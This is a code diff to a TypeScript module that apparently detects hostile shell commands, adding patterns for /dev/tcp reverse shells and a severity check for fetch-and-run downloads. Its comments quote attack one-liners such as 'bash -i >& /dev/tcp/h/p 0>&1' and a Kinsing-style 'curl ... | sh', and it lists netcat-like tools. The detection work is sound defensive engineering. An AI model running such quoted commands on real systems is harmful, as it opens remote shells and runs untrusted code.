@@ -2,6 +2,8 @@
 import { basename } from "../rows.js";
 import { InOrder } from "../in-order.js";
 import { isIpv4, isPublic } from "../net.js";
+import { dynamicDnsHost, stagingHost } from "../intel/staging-hosts.js";
+import type { Severity } from "../types.js";
 
 export const SHELLS: ReadonlySet<string> = new Set(["sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "fish", "busybox"]);
 export const NETCAT_LIKE: ReadonlySet<string> = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet"]);
@@ -132,6 +134,24 @@ export const OUTSIDE_TRANSFER: Pick<RegExp, "test"> = {
   },
 };
 
+const INSECURE = /\s(?:-k|--insecure|--no-check-certificate)\b/;
+
+/**
+ * How much a fetch-and-run says by where the code came from: from a host inside the site (an artifact server's
+ * bootstrap), medium; over verified HTTPS from a named host outside it (how vendors document installers), low;
+ * undefined (no lower than the caller's own) over plain HTTP, from an address, a paste or file-drop site, a dynamic-DNS
+ * name or with certificate checks off, as intruders fetch (Kinsing's `curl -s http://<ip>/d.sh | sh`, TeamTNT, 8220,
+ * WatchDog's pastebin).
+ */
+export function fetchedFrom(command: string): { severity: Severity; why: string } | undefined {
+  const sources = urlSources(command);
+  if (sources.length === 0 || INSECURE.test(command)) return undefined;
+  if (sources.every((s) => !outsideHost(s.host))) return { severity: "medium", why: "from a host inside the site" };
+  const named = (h: string): boolean => !isIpv4(h) && !h.includes(":") && stagingHost(h) === undefined && !dynamicDnsHost(h);
+  if (sources.every((s) => s.scheme === "https" && named(s.host))) return { severity: "low", why: `over HTTPS from ${sources[0]?.host ?? "a named host"} (an installer? confirm what it put on the host)` };
+  return undefined;
+}
+
 /** A tool that carries a byte stream over the network: netcat and its kin, and openssl's TLS client. */
 const NETWORK_PIPE_TOOL = /^\s*(?:sudo\s+)?(?:\/\S*\/)?(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet|openssl\s+s_client|cryptcat)\b/i;
 const SHELL_IN_PIPE = /^\s*(?:exec\s+)?(?:\/\S*\/)?(?:ba|da|z|k)?sh(?:\s+-i)?\s*$/i;
@@ -185,6 +205,30 @@ export const TEMP_RUN_OR_HIDE: Pick<RegExp, "test"> = {
   },
 };
 
+const DEV_TCP = /\/dev\/(?:tcp|udp)\//i;
+/** A /dev/tcp redirection that carries a stream: a descriptor duplicated or opened both ways, or a file sent. */
+const DEV_TCP_CARRIES = /(?:>&|&>|<>|\d>&\d|<&\s*\d|\bexec\s+\d*\s*[<>])|\b(?:cat|tar|base64|gzip|dd)\b[^|;&]*>\s*\/dev\/(?:tcp|udp)\/|\b(?:ba|da|z|k)?sh\s[^|;&'"]*<\s*\/dev\/(?:tcp|udp)\/|(?<!\|)\|(?!\|)/;
+
+/**
+ * bash's /dev/tcp carrying a shell or data: `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`, `cat f > /dev/tcp/...`,
+ * a pipe. One line at a time.
+ */
+export const DEV_TCP_STREAM: Pick<RegExp, "test"> = {
+  test(text: string): boolean {
+    return text.split("\n").some((line) => DEV_TCP.test(line) && DEV_TCP_CARRIES.test(line));
+  },
+};
+
+/**
+ * /dev/tcp opened and nothing carried: `echo > /dev/tcp/db/5432` or `</dev/tcp/h/p` in a monitoring job, the bash idiom
+ * for "is the port open" (Nagios, health checks). Weak: a port check, or a beacon.
+ */
+export const DEV_TCP_PROBE: Pick<RegExp, "test"> = {
+  test(text: string): boolean {
+    return DEV_TCP.test(text) && !DEV_TCP_STREAM.test(text);
+  },
+};
+
 export interface CommandSignal {
   why: string;
   strong: boolean;
@@ -193,14 +237,20 @@ export interface CommandSignal {
 /** netcat, then -e (a bundle holding e) later in its line; parts in order, as one pattern it was quadratic. */
 export const NETCAT_EXEC = new InOrder(/\n/, [/\b(?:nc|ncat|netcat)\b/i, /\s-[a-z]*e\s/i]);
 
+const TEMP_RUN_WHY = "runs something from a temp directory or hides it there";
+const OUTSIDE_TRANSFER_WHY = "fetches from or sends to an outside address with curl/wget";
+/** The weak signals of a job that fetches a script and runs it: weighed by where it fetches from (fetchedFrom). */
+export const FETCH_AND_RUN_SIGNALS: ReadonlySet<string> = new Set([TEMP_RUN_WHY, OUTSIDE_TRANSFER_WHY]);
+
 const COMMAND_SIGNALS: ReadonlyArray<{ re: Pick<RegExp, "test">; why: string; strong: boolean }> = [
   { re: PIPE_TO_SHELL, why: "pipes a download into a shell", strong: true },
-  { re: /\/dev\/(?:tcp|udp)\//i, why: "opens a /dev/tcp socket", strong: true },
+  { re: DEV_TCP_STREAM, why: "connects a shell's input or output to a /dev/tcp socket", strong: true },
+  { re: DEV_TCP_PROBE, why: "opens a /dev/tcp socket (a port check?)", strong: false },
   { re: /\bbase64\s+(?:-d|--decode)\b|\bbase64\s+-di?\b|frombase64|b64decode/i, why: "decodes base64", strong: true },
   { re: NETCAT_EXEC, why: "runs netcat with -e", strong: true },
   { re: SHELL_THROUGH_NETWORK, why: "pipes a shell through a network tool (a reverse shell)", strong: true },
-  { re: TEMP_RUN_OR_HIDE, why: "runs something from a temp directory or hides it there", strong: false },
-  { re: OUTSIDE_TRANSFER, why: "fetches from or sends to an outside address with curl/wget", strong: false },
+  { re: TEMP_RUN_OR_HIDE, why: TEMP_RUN_WHY, strong: false },
+  { re: OUTSIDE_TRANSFER, why: OUTSIDE_TRANSFER_WHY, strong: false },
   { re: /\bpython[0-9.]*\s+-c\b|\bperl\s+-e\b/i, why: "runs inline interpreter code", strong: false },
 ];
 
